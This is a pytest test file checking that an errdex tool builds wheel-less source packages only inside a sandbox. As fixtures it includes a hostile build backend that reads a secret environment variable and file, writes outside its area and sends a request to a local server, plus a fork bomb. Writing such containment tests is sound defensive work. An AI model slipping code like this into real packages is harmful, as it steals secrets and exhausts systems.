"""What has no wheel is built in the sandbox, and nowhere else."""

import threading
from pathlib import Path

import pytest

from errdex.verify.environments import building
from errdex.verify.environments.making import environment_for
from errdex.verify.environments.uv import NoEnvironment
from tests.verify.environments.index import Served, served
from tests.verify.environments.installed import HERE, says
from tests.verify.sandbox.ready import needs_sandbox

BUILDER = '''
"""A build backend that keeps to itself: zips what lies beside it."""
import zipfile

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(f"{{wheel_directory}}/{{name}}", "w") as out:
        info = "{name}-{version}.dist-info"
        out.writestr("{name}.py", "BUILT = True\\n")
        out.writestr(info + "/METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n")
        wheel = "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
        out.writestr(info + "/WHEEL", wheel)
        out.writestr(info + "/RECORD", "")
    return name
'''


def backend(name: str, version: str, more: str = "") -> dict[str, str]:
    return {
        "pyproject.toml": '[build-system]\nrequires = ["buoy==1.0"]\nbuild-backend = "maker"\nbackend-path = ["."]\n',
        "maker.py": BUILDER.format(name=name, version=version) + more,
    }


@needs_sandbox
def test_what_has_no_wheel_is_built_in_the_sandbox(index: Served) -> None:
    index.wheel("buoy", "1.0")
    index.sdist("older", "1.0", backend("older", "1.0"))
    index.sdist("older", "2.0", backend("older", "2.0"))
    index.wheel("tidegauge", "1.0", requires=("older<2",))
    made = environment_for(["tidegauge"], HERE)
    assert made.packages == {"older": "1.0", "tidegauge": "1.0"}
    assert made.built == ("older-1.0-py3-none-any.whl",)
    assert says(made, "import older; print(older.BUILT)") == "True"
    # Once built, it is kept for other environments.
    asked = [p for p in index.seen if p.endswith(".tar.gz")]
    assert environment_for(["older==1.0"], HERE).built == made.built
    assert [p for p in index.seen if p.endswith(".tar.gz")] == asked


@needs_sandbox
def test_code_of_a_build_stays_in_the_sandbox(index: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It reads, writes, calls out and looks around, at import and in every hook; none of it may come through."""
    secret = tmp_path / "secret"
    secret.write_text("told")
    monkeypatch.setenv("ERRDEX_TEST_SECRET", "told")
    with served() as outside:
        evil = f"""
import os, pathlib, socket, sys
def attack():
    found = [os.environ.get("ERRDEX_TEST_SECRET")]
    try:
        found.append(pathlib.Path({str(secret)!r}).read_text())
    except OSError:
        pass
    try:
        pathlib.Path({str(tmp_path / "written")!r}).write_text("x")
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", {outside.port}), 2).sendall(b"GET /told HTTP/1.0\\r\\n\\r\\n")
    except OSError:
        pass
    assert found == [None], found
    assert os.getuid() != 0
attack()
def get_requires_for_build_wheel(config_settings=None):
    attack()
    return []
"""
        index.wheel("buoy", "1.0")
        index.sdist("evil", "1.0", backend("evil", "1.0", evil))
        made = environment_for(["evil"], HERE)
        assert made.built == ("evil-1.0-py3-none-any.whl",)
        assert not (tmp_path / "written").exists()
        assert outside.seen == []


@needs_sandbox
@pytest.mark.parametrize(
    ("files", "why"),
    [
        (
            {"pyproject.toml": '[build-system]\nrequires = ["x @ https://example.org/x.whl"]\nbuild-backend = "m"\n'},
            "'x' comes from a URL; only what the package index has is installed",
        ),
        (
            {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "gone"\n'},
            "evil cannot be built: ModuleNotFoundError: No module named 'gone'",
        ),
        (
            {**backend("other", "1.0"), "x": ""},
            "building evil-1.0.tar.gz gave 'other-1.0-py3-none-any.whl', another distribution",
        ),
        (
            backend("evil", "1.0", "import os\nwhile True:\n    os.fork()\n"),
            "evil cannot be built: had more than 256 processes",
        ),
        ({"pyproject.toml": "= no toml"}, "evil cannot be built: tomllib.TOMLDecodeError"),
    ],
)
def test_a_build_that_fails_says_why_in_a_line(files: dict[str, str], why: str, index: Served) -> None:
    index.wheel("buoy", "1.0")
    index.sdist("evil", "1.0", files)
    with pytest.raises(NoEnvironment) as caught:
        environment_for(["evil"], HERE)
    assert str(caught.value).startswith(why)
    assert "\n" not in str(caught.value)


def test_without_a_sandbox_nothing_is_built(index: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(building, "why_not", lambda: "bubblewrap is not installed")
    index.wheel("buoy", "1.0")
    index.sdist("evil", "1.0", {"setup.py": f"open({str(tmp_path / 'ran')!r}, 'w').close()\n"})
    with pytest.raises(NoEnvironment) as caught:
        environment_for(["evil"], HERE)
    assert str(caught.value) == (
        "'evil' has no wheel that fits and must be built, which needs the sandbox: bubblewrap is not installed"
    )  # fmt: skip
    assert not (tmp_path / "ran").exists()


def test_what_a_build_requires_must_have_a_wheel_itself(index: Served) -> None:
    index.sdist("buoy", "1.0", backend("buoy", "1.0"))
    index.sdist("older", "1.0", backend("older", "1.0"))
    with pytest.raises(NoEnvironment, match=r"what a build requires has no wheel itself: buoy|needs the sandbox"):
        environment_for(["older"], HERE)


@needs_sandbox
def test_what_requires_each_other_to_be_built_ends(index: Served) -> None:
    """Asked for at once, each holds its own lock while the other is wanted."""
    for name, other in (("buoy", "gauge"), ("gauge", "buoy")):
        files = backend(name, "1.0")
        files["pyproject.toml"] = files["pyproject.toml"].replace("buoy==1.0", other)
        index.sdist(name, "1.0", files)
    told: list[str] = []

    def ask(name: str) -> None:
        with pytest.raises(NoEnvironment) as caught:
            environment_for([name], HERE)
        told.append(str(caught.value))

    threads = [threading.Thread(target=ask, args=(name,), daemon=True) for name in ("buoy", "gauge")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(20)
    assert sorted(told) == [f"what a build requires has no wheel itself: {name}" for name in ("buoy", "gauge")]
